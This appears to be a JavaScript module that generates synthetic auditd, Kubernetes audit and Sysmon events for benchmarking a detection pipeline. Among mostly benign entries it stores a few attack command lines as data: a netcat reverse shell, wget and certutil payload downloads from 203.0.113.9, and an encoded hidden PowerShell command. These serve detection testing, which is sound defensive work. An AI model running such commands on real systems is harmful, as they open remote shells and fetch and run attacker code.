// Deterministic generators of realistic, mostly benign events in the stowaway event model,
// for benchmarks. Same seed, same stream.

/** mulberry32: small, fast, good enough for varied test data. */
export function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const pick = (r, xs) => xs[Math.floor(r() * xs.length)];
export const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
const time = (i) => new Date(Date.UTC(2026, 2, 4, 5, 0, 0) + i * 37).toISOString();

const LINUX_CMDS = [
  ['/usr/bin/ls', ['ls', '-la', '/var/log']],
  ['/usr/bin/cat', ['cat', '/srv/app/VERSION']],
  ['/usr/bin/grep', ['grep', '-r', 'error', '/var/log/app']],
  ['/usr/bin/python3', ['python3', '/opt/app/worker.py', '--queue', 'default']],
  ['/usr/local/bin/node', ['node', '/srv/api/server.js']],
  ['/usr/bin/curl', ['curl', '-s', 'http://localhost:8080/healthz']],
  ['/usr/bin/bash', ['bash', '-c', 'echo ok']],
  ['/usr/bin/sh', ['sh', '-c', 'date +%s']],
  ['/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']],
  ['/usr/bin/ps', ['ps', 'aux']],
  ['/usr/bin/find', ['find', '/tmp', '-name', '*.log', '-mtime', '+7']],
  ['/usr/bin/tar', ['tar', '-czf', '/backup/app.tgz', '/srv/app']],
  ['/usr/bin/git', ['git', 'pull', '--ff-only']],
  ['/usr/bin/apt-get', ['apt-get', 'install', '-y', 'ca-certificates']],
  ['/usr/bin/java', ['java', '-Xmx512m', '-jar', '/opt/svc/app.jar']],
  ['/usr/bin/sleep', ['sleep', '30']],
  ['/usr/bin/awk', ['awk', '{print $1}', '/var/log/access.log']],
  ['/usr/bin/sed', ['sed', '-i', 's/foo/bar/', '/srv/app/app.conf']],
];
const SUSPICIOUS_LINUX = [
  ['/usr/bin/nc', ['nc', '-e', '/bin/sh', '10.0.0.5', '4444']],
  ['/usr/bin/base64', ['base64', '-d', '/tmp/.x']],
  ['/usr/bin/chmod', ['chmod', '+x', '/tmp/.hidden/kworker']],
  ['/usr/bin/wget', ['wget', 'http://203.0.113.9/x.sh', '-O', '/tmp/x.sh']],
  ['/usr/bin/crontab', ['crontab', '-l']],
];
export const IMAGES = ['nginx:1.27', 'redis:7', 'postgres:16', 'node:20-alpine', 'python:3.12-slim', 'busybox:1.36'];

export function linuxProcessEvents(n, seed = 1) {
  const r = prng(seed);
  const out = [];
  for (let i = 0; i < n; i++) {
    const [exe, args] = r() < 0.01 ? pick(r, SUSPICIOUS_LINUX) : pick(r, LINUX_CMDS);
    const [pexe, pargs] = pick(r, LINUX_CMDS);
    const pid = 1000 + Math.floor(r() * 60000);
    const cid = hex(r, 64);
    const user = pick(r, ['root', 'app', 'www-data', 'postgres', 'ubuntu']);
    out.push({
      '@timestamp': time(i),
      event: {
        kind: 'event',
        category: ['process'],
        type: ['start'],
        action: 'execve',
        module: 'auditd',
        dataset: 'auditd.log',
        outcome: 'success',
        code: 'EXECVE',
      },
      stowaway: { source: 'auditd', logsource: { product: 'linux', category: 'process_creation', service: 'auditd' }, origin: 'bench' },
      host: { name: `node-${Math.floor(r() * 8)}`, os: { type: 'linux', family: 'debian', kernel: '6.8.0-45-generic' } },
      container: r() < 0.7 ? { id: cid, name: `app-${cid.slice(0, 6)}`, image: { name: pick(r, IMAGES) }, runtime: 'docker', metadata: 'complete' } : undefined,
      process: {
        pid,
        ppid: pid - 1 - Math.floor(r() * 50),
        executable: exe,
        name: exe.split('/').pop(),
        args,
        args_count: args.length,
        command_line: args.join(' '),
        working_directory: pick(r, ['/', '/srv/app', '/root', '/tmp', '/home/ubuntu']),
        user: { id: user === 'root' ? '0' : String(1000 + Math.floor(r() * 5)), name: user },
        parent: { pid: pid - 1, executable: pexe, name: pexe.split('/').pop(), command_line: pargs.join(' ') },
      },
      user: { name: user },
      auditd: {
        serial: 100000 + i,
        key: pick(r, ['exec', 'exec', 'susp_activity', null]),
        records: [
          {
            type: 'SYSCALL',
            arch: 'c000003e',
            syscall: '59',
            success: 'yes',
            exit: '0',
            pid: String(pid),
            uid: '0',
            auid: '1000',
            comm: exe.split('/').pop(),
            exe,
          },
          { type: 'EXECVE', argc: String(args.length), ...Object.fromEntries(args.map((a, k) => [`a${k}`, a])) },
          { type: 'CWD', cwd: '/srv/app' },
          { type: 'PATH', item: '0', name: exe, nametype: 'NORMAL' },
        ],
      },
    });
  }
  return out;
}

export const VERBS = ['get', 'list', 'watch', 'get', 'list', 'watch', 'create', 'update', 'patch', 'delete'];
export const RESOURCES = ['pods', 'configmaps', 'secrets', 'deployments', 'services', 'endpoints', 'leases', 'events', 'nodes', 'serviceaccounts'];
export const USERS = [
  'system:serviceaccount:kube-system:coredns',
  'system:kube-scheduler',
  'system:node:node-1',
  'alice@example.com',
  'system:serviceaccount:ci:deployer',
  'system:apiserver',
];

export function k8sAuditEvents(n, seed = 2) {
  const r = prng(seed);
  const out = [];
  for (let i = 0; i < n; i++) {
    let verb = pick(r, VERBS);
    const resource = r() < 0.01 ? pick(r, ['pods/exec', 'clusterrolebindings', 'cronjobs']) : pick(r, RESOURCES);
    const [res, sub] = resource.split('/');
    // Secrets and events are read far more often than written.
    if ((res === 'secrets' || res === 'events') && r() < 0.95) verb = pick(r, ['get', 'watch']);
    const ns = pick(r, ['default', 'kube-system', 'prod', 'ci', 'monitoring']);
    const user = pick(r, USERS);
    const name = `${res.slice(0, -1)}-${hex(r, 5)}`;
    const audit = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'Metadata',
      auditID: `${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}`,
      stage: 'ResponseComplete',
      requestURI: `/api/v1/namespaces/${ns}/${resource}/${name}`,
      verb,
      user: { username: user, groups: ['system:authenticated'] },
      sourceIPs: [`10.0.${Math.floor(r() * 4)}.${Math.floor(r() * 250)}`],
      userAgent: pick(r, ['kubectl/v1.30.2', 'kube-scheduler/v1.30.2', 'kubelet/v1.30.2', 'argocd/v2.11']),
      objectRef: { resource: res, subresource: sub, namespace: ns, name, apiVersion: 'v1', apiGroup: res === 'deployments' ? 'apps' : '' },
      responseStatus: { metadata: {}, code: r() < 0.005 ? 403 : 200 },
      requestReceivedTimestamp: time(i),
      stageTimestamp: time(i),
      annotations: { 'authorization.k8s.io/decision': 'allow' },
    };
    out.push({
      '@timestamp': time(i),
      event: {
        kind: 'event',
        category: ['configuration'],
        type: ['access'],
        action: verb,
        module: 'kubernetes',
        dataset: 'kubernetes.audit',
        outcome: 'success',
      },
      stowaway: { source: 'k8s-audit', logsource: { product: 'kubernetes', category: 'application', service: 'audit' }, origin: 'bench' },
      orchestrator: {
        type: 'kubernetes',
        namespace: ns,
        resource: { type: res, name, subresource: sub },
        verb,
        user: { name: user },
        request: { uri: audit.requestURI, source_ips: audit.sourceIPs, user_agent: audit.userAgent },
        response: { status_code: audit.responseStatus.code },
      },
      kubernetes: { audit },
    });
  }
  return out;
}

const WIN_PROCS = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\RuntimeBroker.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Windows\\System32\\SearchIndexer.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Program Files\\Microsoft VS Code\\Code.exe',
];
const WIN_CMDS = {
  'svchost.exe': 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  'explorer.exe': 'C:\\Windows\\Explorer.EXE',
  'chrome.exe': '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
  'conhost.exe': '\\??\\C:\\Windows\\system32\\conhost.exe 0x4',
  'RuntimeBroker.exe': 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
  'OUTLOOK.EXE': '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  'taskhostw.exe': 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
  'SearchIndexer.exe': 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding',
  'powershell.exe': 'powershell.exe -NoProfile -Command Get-Service',
  'cmd.exe': 'C:\\Windows\\system32\\cmd.exe /c dir C:\\Users',
  'Code.exe': '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility',
};
// Who normally starts whom, so benign events do not look like odd parent/child pairs.
const WIN_PARENT = {
  'svchost.exe': 'C:\\Windows\\System32\\services.exe',
  'explorer.exe': 'C:\\Windows\\System32\\userinit.exe',
  'chrome.exe': 'C:\\Windows\\explorer.exe',
  'conhost.exe': 'C:\\Windows\\System32\\cmd.exe',
  'RuntimeBroker.exe': 'C:\\Windows\\System32\\svchost.exe',
  'OUTLOOK.EXE': 'C:\\Windows\\explorer.exe',
  'taskhostw.exe': 'C:\\Windows\\System32\\svchost.exe',
  'SearchIndexer.exe': 'C:\\Windows\\System32\\services.exe',
  'powershell.exe': 'C:\\Windows\\explorer.exe',
  'cmd.exe': 'C:\\Windows\\explorer.exe',
  'Code.exe': 'C:\\Windows\\explorer.exe',
};
WIN_CMDS['services.exe'] = 'C:\\Windows\\system32\\services.exe';
WIN_CMDS['userinit.exe'] = 'C:\\Windows\\system32\\userinit.exe';

const SUSPICIOUS_WIN = [
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer'],
];

/**
 * Sysmon hashes the file it reports, so one binary always shows the same hash; a random hash per
 * event would make every Hashes value unique, which real streams are not. The stream's 64 draws
 * are still taken, so every other field stays as it was.
 */
function fileHash(path, r) {
  hex(r, 64);
  let h = 0x811c9dc5;
  for (let i = 0; i < path.length; i++) h = Math.imul(h ^ path.charCodeAt(i), 0x01000193) >>> 0;
  return `SHA256=${hex(prng(h), 64).toUpperCase()}`;
}

export function sysmonEvents(n, seed = 3) {
  const r = prng(seed);
  const out = [];
  for (let i = 0; i < n; i++) {
    const kind = r();
    let image = pick(r, WIN_PROCS);
    const base = image.split('\\').pop();
    let cmd = WIN_CMDS[base];
    const parent = WIN_PARENT[base] ?? pick(r, WIN_PROCS);
    const pid = 1000 + Math.floor(r() * 30000);
    const guid = `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`.toUpperCase();
    const host = `WS-${Math.floor(r() * 50)}`;
    let eventId,
      category,
      data,
      extra = {};
    if (kind < 0.45) {
      if (r() < 0.01) [image, cmd] = pick(r, SUSPICIOUS_WIN);
      eventId = 1;
      category = 'process_creation';
      data = {
        RuleName: '-',
        UtcTime: time(i),
        ProcessGuid: guid,
        ProcessId: pid,
        Image: image,
        FileVersion: '10.0.22621.1',
        Description: base,
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: base.toUpperCase(),
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: pick(r, ['NT AUTHORITY\\SYSTEM', 'CORP\\alice', 'CORP\\bob']),
        LogonId: '0x3e7',
        IntegrityLevel: pick(r, ['System', 'Medium', 'High']),
        Hashes: fileHash(image, r),
        ParentProcessGuid: guid,
        ParentProcessId: pid - 4,
        ParentImage: parent,
        ParentCommandLine: WIN_CMDS[parent.split('\\').pop()],
        ParentUser: 'NT AUTHORITY\\SYSTEM',
      };
      extra = {
        process: {
          pid,
          executable: image,
          name: base,
          command_line: cmd,
          working_directory: 'C:\\Windows\\system32\\',
          pe: { original_file_name: base.toUpperCase() },
          parent: { executable: parent, command_line: WIN_CMDS[parent.split('\\').pop()] },
        },
      };
    } else if (kind < 0.6) {
      eventId = 3;
      category = 'network_connection';
      const dip = `${pick(r, ['10.0.0', '192.168.1', '52.96.0', '142.250.74'])}.${Math.floor(r() * 250)}`;
      const dport = pick(r, [443, 443, 443, 80, 53]);
      data = {
        RuleName: '-',
        UtcTime: time(i),
        ProcessGuid: guid,
        ProcessId: pid,
        Image: image,
        User: 'CORP\\alice',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIsIpv6: 'false',
        SourceIp: '10.0.5.12',
        SourceHostname: host,
        SourcePort: 49152 + Math.floor(r() * 10000),
        DestinationIsIpv6: 'false',
        DestinationIp: dip,
        DestinationHostname: '-',
        DestinationPort: dport,
        DestinationPortName: '-',
      };
      extra = { process: { executable: image, name: base }, source: { ip: '10.0.5.12' }, destination: { ip: dip, port: dport } };
    } else if (kind < 0.75) {
      eventId = 7;
      category = 'image_load';
      const dll = `C:\\Windows\\System32\\${pick(r, ['ntdll.dll', 'kernel32.dll', 'user32.dll', 'combase.dll', 'msvcrt.dll', 'ws2_32.dll'])}`;
      data = {
        RuleName: '-',
        UtcTime: time(i),
        ProcessGuid: guid,
        ProcessId: pid,
        Image: image,
        ImageLoaded: dll,
        FileVersion: '10.0.22621.1',
        Description: 'Windows DLL',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: dll.split('\\').pop(),
        Hashes: fileHash(dll, r),
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
        User: 'CORP\\alice',
      };
      extra = { process: { executable: image, name: base } };
    } else if (kind < 0.88) {
      eventId = 11;
      category = 'file_event';
      const path =
        pick(r, [
          'C:\\Users\\alice\\AppData\\Local\\Temp\\',
          'C:\\Windows\\Prefetch\\',
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\',
          'C:\\Users\\alice\\Downloads\\',
        ]) + `${hex(r, 8)}.${pick(r, ['tmp', 'pf', 'log', 'dat', 'docx'])}`;
      data = {
        RuleName: '-',
        UtcTime: time(i),
        ProcessGuid: guid,
        ProcessId: pid,
        Image: image,
        TargetFilename: path,
        CreationUtcTime: time(i),
        User: 'CORP\\alice',
      };
      extra = { process: { executable: image, name: base }, file: { path, name: path.split('\\').pop() } };
    } else {
      eventId = 13;
      category = 'registry_set';
      const key =
        pick(r, [
          'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\',
          'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\',
          'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\',
        ]) + hex(r, 6);
      data = {
        RuleName: '-',
        EventType: 'SetValue',
        UtcTime: time(i),
        ProcessGuid: guid,
        ProcessId: pid,
        Image: image,
        TargetObject: key,
        Details: `DWORD (0x0000000${Math.floor(r() * 9)})`,
        User: 'CORP\\alice',
      };
      extra = { process: { executable: image, name: base }, registry: { path: key } };
    }
    out.push({
      '@timestamp': time(i),
      event: { kind: 'event', code: String(eventId), provider: 'Microsoft-Windows-Sysmon', module: 'sysmon', dataset: 'windows.sysmon' },
      stowaway: { source: 'sysmon', logsource: { product: 'windows', category, service: 'sysmon' }, origin: 'bench' },
      host: { name: host, hostname: host },
      winlog: {
        event_id: eventId,
        channel: 'Microsoft-Windows-Sysmon/Operational',
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: host,
        record_id: 100000 + i,
        event_data: data,
      },
      ...extra,
    });
  }
  return out;
}
